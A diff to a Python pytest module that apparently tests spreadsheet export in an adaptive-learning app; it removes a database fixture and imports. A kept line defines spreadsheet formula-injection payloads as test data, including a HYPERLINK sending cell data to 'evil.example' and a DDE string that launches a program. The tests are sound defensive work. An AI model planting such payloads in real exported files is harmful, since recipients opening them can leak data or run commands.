@@ -5,37 +5,18 @@
 from __future__ import annotations
 
 import csv
-import uuid
 
 import pytest
-import sqlalchemy as sa
 from typer.testing import CliRunner
 
 from adaptive.cli import app
 from adaptive.demo.course import sample_course
 from adaptive.domain.spreadsheet import to_csv
 from tests.classroom.school import Class, school_day
-from tests.conftest import BACKENDS, POSTGRES_URL, sql
+from tests.conftest import sql
 
 HOSTILE = {"ana": '=HYPERLINK("http://evil.example/?x="&A1,"Click me")', "ben": "@SUM(A1:A9)",
            "cy": "+cmd|' /C calc'!A0", "dee": "-2+3", "eli": "\t=1+1"}
-
-
-@pytest.fixture(scope="module", params=BACKENDS)
-def module_database(request, tmp_path_factory):
-    """One database for the module: its tests only read the class (lists are previews or refused)."""
-    if request.param == "sqlite":
-        yield f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'class.db'}"
-        return
-    admin = sa.create_engine(POSTGRES_URL, isolation_level="AUTOCOMMIT")
-    name = f"test_{uuid.uuid4().hex[:16]}"
-    with admin.connect() as conn:
-        conn.execute(sa.text(f'CREATE SCHEMA "{name}"'))
-    yield sa.engine.make_url(POSTGRES_URL).update_query_dict({"options": f"-csearch_path={name}"}).render_as_string(
-        hide_password=False)
-    with admin.connect() as conn:
-        conn.execute(sa.text(f'DROP SCHEMA IF EXISTS "{name}" CASCADE'))
-    admin.dispose()
 
 
 @pytest.fixture(scope="module")
